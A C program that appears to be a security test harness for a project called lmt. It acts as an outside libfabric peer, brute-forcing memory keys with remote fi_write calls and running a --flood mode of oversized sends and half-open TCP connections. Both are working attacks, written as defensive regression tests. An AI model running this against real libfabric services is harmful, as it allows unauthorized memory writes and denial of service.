/* A libfabric peer outside any lmt session: what a third party on the
 * network can do against an ofi endpoint of lmt knowing only its IP and
 * port, over the provider lmt uses for ofi.provider=tcp (net).
 *
 * Writes: it opens an RDM endpoint of its own, inserts the target's
 * address, and tries fi_write of 256 bytes with every key from 0 to N, key
 * k at offset 0, 64 or 4096 by k mod 3 (offset addressing, as lmt uses with
 * tcp), then reports how the writes ended:
 *
 *     attack: 1001 writes, 1001 completed, 0 refused by the target, 0 unanswered
 *
 * (or "attack: 0 writes, ...; then the target took no connection", when a
 * fresh endpoint of its own cannot connect within 3 s, as against lmt's
 * endpoints once set up) and, for each error seen, how often. Exit 0 when it ran (whatever the
 * outcome: the test reads the line), 2 when it could not set up.
 *
 * --self-test runs the same attack against a target endpoint of its own
 * that registers 64 KiB under key 3 (as lmt did before its keys were
 * random; it is hit at offset 0):
 * there the attack must land, which shows that the program reaches and
 * writes a target whose key it can guess.
 *
 * --flood HOST PORT SECONDS sends what lmt never asks for, for SECONDS:
 * messages (fi_send) of 64 bytes, 16 KiB (eager sizes) and 1 MiB (the
 * size ofi_rxm sends by rendezvous), tagged messages (fi_tsend) of 64 bytes
 * and 1 MiB, from endpoints it keeps opening (a connection each; the 32
 * newest stay open, older ones are closed with their messages pending),
 * while 64 plain TCP connections to the port stay open without ever
 * sending a connection request. It reports what it did (the connections
 * are its endpoints, each of which tried one; those left unfinished the
 * plain ones the target accepted within a second):
 *
 *     flood: 812 messages posted (131 MiB), 96 connections, 64 left unfinished
 *
 * and exits 0 when it ran, 2 when it could not set up. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>
#include <rdma/fi_tagged.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#define WRITE_LEN 256
#define SECOND 1000000000ull

static const uint64_t offsets[] = {0, 64, 4096};
#define OFFSETS (sizeof(offsets) / sizeof(offsets[0]))

struct side {
	struct fi_info *info;
	struct fid_fabric *fabric;
	struct fid_domain *domain;
	struct fid_av *av;
	struct fid_cq *cq;
	struct fid_ep *ep;
};

static uint64_t now_ns(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * SECOND + (uint64_t)ts.tv_nsec;
}

static int fail(const char *what, int rc)
{
	fprintf(stderr, "attacker: %s: %s\n", what, fi_strerror(-rc));
	return -1;
}

/* The endpoint, its address vector and completion queue: what a retry
 * makes anew. */
static int endpoint_open(struct side *s)
{
	struct fi_av_attr av = {.type = FI_AV_TABLE, .count = 4};
	int rc = fi_av_open(s->domain, &av, &s->av, NULL);
	if (rc)
		return fail("fi_av_open", rc);
	struct fi_cq_attr cq = {.format = FI_CQ_FORMAT_CONTEXT, .size = 64};
	if ((rc = fi_cq_open(s->domain, &cq, &s->cq, NULL)))
		return fail("fi_cq_open", rc);
	if ((rc = fi_endpoint(s->domain, s->info, &s->ep, NULL)))
		return fail("fi_endpoint", rc);
	if ((rc = fi_ep_bind(s->ep, &s->av->fid, 0)) ||
	    (rc = fi_ep_bind(s->ep, &s->cq->fid, FI_TRANSMIT | FI_RECV)) ||
	    (rc = fi_enable(s->ep)))
		return fail("binding the endpoint", rc);
	return 0;
}

static void endpoint_close(struct side *s)
{
	if (s->ep)
		fi_close(&s->ep->fid);
	if (s->cq)
		fi_close(&s->cq->fid);
	if (s->av)
		fi_close(&s->av->fid);
	s->ep = NULL;
	s->cq = NULL;
	s->av = NULL;
}

static int side_open(struct side *s)
{
	memset(s, 0, sizeof(*s));
	struct fi_info *hints = fi_allocinfo();
	if (!hints)
		return fail("fi_allocinfo", -FI_ENOMEM);
	hints->ep_attr->type = FI_EP_RDM;
	hints->caps = FI_RMA | FI_MSG | FI_TAGGED;
	hints->addr_format = FI_SOCKADDR_IN;
	/* Keys as requested (not the provider's), as lmt asks of net. */
	hints->domain_attr->mr_mode = FI_MR_VIRT_ADDR | FI_MR_ALLOCATED;
	hints->domain_attr->threading = FI_THREAD_SAFE;
	/* A completion once the target has taken the write: its answer. */
	hints->tx_attr->op_flags = FI_DELIVERY_COMPLETE;
	hints->fabric_attr->prov_name = strdup("net");
	int rc = fi_getinfo(FI_VERSION(1, 17), NULL, NULL, 0, hints, &s->info);
	fi_freeinfo(hints);
	if (rc)
		return fail("fi_getinfo(net)", rc);
	/* On the loopback, like the target. */
	for (struct fi_info *i = s->info; i; i = i->next) {
		const struct sockaddr_in *sa = i->src_addr;
		if (sa && sa->sin_family == AF_INET && sa->sin_addr.s_addr == htonl(INADDR_LOOPBACK)) {
			struct fi_info *pick = fi_dupinfo(i);
			fi_freeinfo(s->info);
			s->info = pick;
			break;
		}
	}
	if (!s->info)
		return fail("fi_dupinfo", -FI_ENOMEM);
	if ((rc = fi_fabric(s->info->fabric_attr, &s->fabric, NULL)))
		return fail("fi_fabric", rc);
	if ((rc = fi_domain(s->fabric, s->info, &s->domain, NULL)))
		return fail("fi_domain", rc);
	return endpoint_open(s);
}

static void side_close(struct side *s)
{
	endpoint_close(s);
	if (s->domain)
		fi_close(&s->domain->fid);
	if (s->fabric)
		fi_close(&s->fabric->fid);
	if (s->info)
		fi_freeinfo(s->info);
}

/* The errors the writes ended with, and how often. */
struct tally {
	unsigned writes, completed, refused, unanswered;
	bool unreachable; /* a fresh endpoint could not connect */
	int errs[16];
	unsigned counts[16];
	unsigned kinds;
};

static void count_error(struct tally *t, int err)
{
	for (unsigned i = 0; i < t->kinds; i++)
		if (t->errs[i] == err) {
			t->counts[i]++;
			return;
		}
	if (t->kinds < 16) {
		t->errs[t->kinds] = err;
		t->counts[t->kinds++] = 1;
	}
}

/* Drive `target` too when it is ours (self-test): tcp needs the target's
 * progress. 1 when the write completed, 0 when it failed, -1 unanswered. */
static int wait_one(struct side *a, struct side *target, struct tally *t)
{
	uint64_t deadline = now_ns() + 2 * SECOND;
	while (now_ns() < deadline) {
		struct fi_cq_entry e;
		ssize_t n = fi_cq_read(a->cq, &e, 1);
		if (n == 1)
			return 1;
		if (n == -FI_EAVAIL) {
			struct fi_cq_err_entry err = {0};
			if (fi_cq_readerr(a->cq, &err, 0) == 1) {
				count_error(t, err.err);
				return 0;
			}
		}
		if (target) {
			struct fi_cq_entry te;
			(void)fi_cq_read(target->cq, &te, 1);
		}
	}
	return -1;
}

/* A refused write costs the attacker its connection: the tcp provider
 * closes a connection that names an unknown key, and ofi_rxm does not make
 * another to the same peer. So the attacker starts over, with a fresh
 * endpoint (a new connection) for every next guess. */
static int reopen(struct side *a, const struct sockaddr_in *sin, fi_addr_t *dest);

static void attack(struct side *a, struct side *target, const struct sockaddr_in *sin,
                   fi_addr_t *dest, unsigned keys, struct tally *t)
{
	static uint8_t buf[WRITE_LEN];
	struct fi_context2 ctx;
	memset(buf, 0xee, sizeof(buf));
	for (unsigned key = 0; key <= keys; key++) {
		uint64_t offset = offsets[key % OFFSETS];
		ssize_t rc;
		/* net answers EAGAIN until it has connected. */
		uint64_t deadline = now_ns() + 3 * SECOND;
		do {
			rc = fi_write(a->ep, buf, sizeof(buf), NULL, *dest, offset, key, &ctx);
			if (rc == -FI_EAGAIN) {
				struct fi_cq_entry e;
				(void)fi_cq_read(a->cq, &e, 1);
				if (target)
					(void)fi_cq_read(target->cq, &e, 1);
			}
		} while (rc == -FI_EAGAIN && now_ns() < deadline);
		if (rc == -FI_EAGAIN) {
			/* Never connected: the endpoint takes no connection. */
			t->unreachable = true;
			return;
		}
		t->writes++;
		int done = -1;
		if (rc) {
			count_error(t, (int)-rc);
			done = 0;
		} else {
			done = wait_one(a, target, t);
		}
		if (done > 0)
			t->completed++;
		else if (done == 0)
			t->refused++;
		else
			t->unanswered++;
		/* net completes a write once it is sent, and drops the
		 * connection's later writes once one named a key it does not
		 * know: every guess on a connection of its own. */
		if (reopen(a, sin, dest))
			return;
	}
}

static void report(const struct tally *t)
{
	printf("attack: %u writes, %u completed, %u refused by the target, %u unanswered%s\n",
	       t->writes, t->completed, t->refused, t->unanswered,
	       t->unreachable ? "; then the target took no connection" : "");
	for (unsigned i = 0; i < t->kinds; i++)
		printf("attack: error %d (%s): %u\n", t->errs[i], fi_strerror(t->errs[i]),
		       t->counts[i]);
	fflush(stdout);
}

static int insert(struct side *a, const struct sockaddr_in *sin, fi_addr_t *dest)
{
	int n = fi_av_insert(a->av, sin, 1, dest, 0, NULL);
	return n == 1 ? 0 : fail("fi_av_insert", n < 0 ? n : -FI_EINVAL);
}

static int reopen(struct side *a, const struct sockaddr_in *sin, fi_addr_t *dest)
{
	endpoint_close(a);
	return endpoint_open(a) || insert(a, sin, dest) ? -1 : 0;
}

/* A target of our own with 64 KiB under key 3: the attack must land. */
static int self_test(unsigned keys)
{
	struct side target, a;
	static uint8_t victim[1 << 16];
	int rc = -1;
	if (side_open(&target) || side_open(&a))
		goto out;
	struct fid_mr *mr;
	int err = fi_mr_reg(target.domain, victim, sizeof(victim), FI_REMOTE_WRITE, 0, 3, 0, &mr,
	                    NULL);
	if (err) {
		fail("fi_mr_reg", err);
		goto out;
	}
	struct sockaddr_in sin;
	size_t len = sizeof(sin);
	fi_addr_t dest;
	if ((err = fi_getname(&target.ep->fid, &sin, &len)) || insert(&a, &sin, &dest)) {
		fail("fi_getname", err);
		fi_close(&mr->fid);
		goto out;
	}
	struct tally t = {0};
	attack(&a, &target, &sin, &dest, keys, &t);
	report(&t);
	/* net completes a write once sent: the target lands it as it
	 * progresses. */
	for (uint64_t until = now_ns() + SECOND / 5; now_ns() < until;) {
		struct fi_cq_entry e;
		(void)fi_cq_read(target.cq, &e, 1);
	}
	unsigned touched = 0;
	for (size_t i = 0; i < sizeof(victim); i++)
		touched += victim[i] == 0xee;
	printf("self-test: %u bytes of the target written\n", touched);
	fi_close(&mr->fid);
	rc = touched > 0 ? 0 : 1;
out:
	side_close(&a);
	side_close(&target);
	return rc;
}

/* ---- Flood ------------------------------------------------------------------ */

#define FLOOD_EPS 32   /* endpoints (connections) kept open at once */
#define FLOOD_RAW 64   /* TCP connections that never send a request */
#define FLOOD_BURST 16 /* messages posted on each new endpoint */

static const struct {
	bool tagged;
	size_t len;
} kinds[] = {{false, 64}, {false, 16384}, {false, 1u << 20}, {true, 64}, {true, 1u << 20}};
#define KINDS (sizeof(kinds) / sizeof(kinds[0]))

struct flood_tally {
	unsigned long posted, bytes, connections;
};

/* Post FLOOD_BURST messages on a new endpoint, driving it while the
 * provider answers EAGAIN (it connects first), for at most 100 ms. */
static void burst(struct side *e, fi_addr_t dest, struct fi_context2 *ctx, unsigned *kind,
                  struct flood_tally *t)
{
	static uint8_t buf[1u << 20];
	uint64_t deadline = now_ns() + SECOND / 10;
	for (unsigned i = 0; i < FLOOD_BURST && now_ns() < deadline;) {
		unsigned k = (*kind) % KINDS;
		ssize_t rc = kinds[k].tagged
		                     ? fi_tsend(e->ep, buf, kinds[k].len, NULL, dest, 0x1234, &ctx[i])
		                     : fi_send(e->ep, buf, kinds[k].len, NULL, dest, &ctx[i]);
		if (rc == 0) {
			t->posted++;
			t->bytes += kinds[k].len;
			(*kind)++;
			i++;
			continue;
		}
		if (rc != -FI_EAGAIN)
			break;
		struct fi_cq_entry entries[16];
		if (fi_cq_read(e->cq, entries, 16) == -FI_EAVAIL) {
			struct fi_cq_err_entry err = {0};
			(void)fi_cq_readerr(e->cq, &err, 0);
		}
	}
}

static int flood(const struct sockaddr_in *sin, unsigned seconds)
{
	struct side base;
	if (side_open(&base))
		return side_close(&base), 2;
	struct side eps[FLOOD_EPS];
	fi_addr_t dest[FLOOD_EPS];
	static struct fi_context2 ctx[FLOOD_EPS][FLOOD_BURST];
	memset(eps, 0, sizeof(eps));
	int raw[FLOOD_RAW];
	unsigned unfinished = 0;
	for (unsigned i = 0; i < FLOOD_RAW; i++) {
		raw[i] = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
		if (raw[i] >= 0)
			(void)connect(raw[i], (const struct sockaddr *)sin, sizeof(*sin));
	}
	/* Those the target accepted within a second. */
	for (uint64_t until = now_ns() + SECOND; now_ns() < until && unfinished < FLOOD_RAW;) {
		unfinished = 0;
		for (unsigned i = 0; i < FLOOD_RAW; i++) {
			struct pollfd p = {.fd = raw[i], .events = POLLOUT};
			int err = 0;
			socklen_t len = sizeof(err);
			if (raw[i] >= 0 && poll(&p, 1, 0) == 1 &&
			    getsockopt(raw[i], SOL_SOCKET, SO_ERROR, &err, &len) == 0 && !err)
				unfinished++;
		}
		struct timespec ts = {0, 10000000};
		nanosleep(&ts, NULL);
	}
	struct flood_tally t = {0};
	unsigned kind = 0;
	uint64_t deadline = now_ns() + (uint64_t)seconds * SECOND;
	for (unsigned n = 0; now_ns() < deadline; n++) {
		struct side *e = &eps[n % FLOOD_EPS];
		/* The oldest goes, its messages still pending. */
		endpoint_close(e);
		*e = base;
		e->av = NULL;
		e->cq = NULL;
		e->ep = NULL;
		if (endpoint_open(e) || insert(e, sin, &dest[n % FLOOD_EPS]))
			break;
		t.connections++;
		burst(e, dest[n % FLOOD_EPS], ctx[n % FLOOD_EPS], &kind, &t);
		for (unsigned i = 0; i < FLOOD_EPS; i++) {
			struct fi_cq_entry entries[16];
			if (eps[i].cq && fi_cq_read(eps[i].cq, entries, 16) == -FI_EAVAIL) {
				struct fi_cq_err_entry err = {0};
				(void)fi_cq_readerr(eps[i].cq, &err, 0);
			}
		}
	}
	for (unsigned i = 0; i < FLOOD_EPS; i++)
		endpoint_close(&eps[i]);
	for (unsigned i = 0; i < FLOOD_RAW; i++)
		if (raw[i] >= 0)
			close(raw[i]);
	side_close(&base);
	printf("flood: %lu messages posted (%lu MiB), %lu connections, %u left unfinished\n",
	       t.posted, t.bytes >> 20, t.connections, unfinished);
	fflush(stdout);
	return 0;
}

int main(int argc, char **argv)
{
	unsigned keys = 1000;
	if (argc >= 2 && strcmp(argv[1], "--self-test") == 0)
		return self_test(argc >= 3 ? (unsigned)strtoul(argv[2], NULL, 0) : 8) ? 1 : 0;
	bool flooding = argc >= 2 && strcmp(argv[1], "--flood") == 0;
	if (flooding) {
		argv++;
		argc--;
	}
	if (argc < 3 || (flooding && argc < 4)) {
		fprintf(stderr,
		        "usage: %s HOST PORT [KEYS] | --flood HOST PORT SECONDS | --self-test [KEYS]\n",
		        argv[0]);
		return 2;
	}
	if (argc >= 4)
		keys = (unsigned)strtoul(argv[3], NULL, 0);
	struct sockaddr_in sin = {.sin_family = AF_INET,
	                          .sin_port = htons((uint16_t)strtoul(argv[2], NULL, 0))};
	if (inet_pton(AF_INET, argv[1], &sin.sin_addr) != 1) {
		fprintf(stderr, "attacker: %s is not an IPv4 address\n", argv[1]);
		return 2;
	}
	if (flooding)
		return flood(&sin, keys);
	struct side a;
	fi_addr_t dest;
	if (side_open(&a) || insert(&a, &sin, &dest)) {
		side_close(&a);
		return 2;
	}
	struct tally t = {0};
	attack(&a, NULL, &sin, &dest, keys, &t);
	report(&t);
	side_close(&a);
	return 0;
}
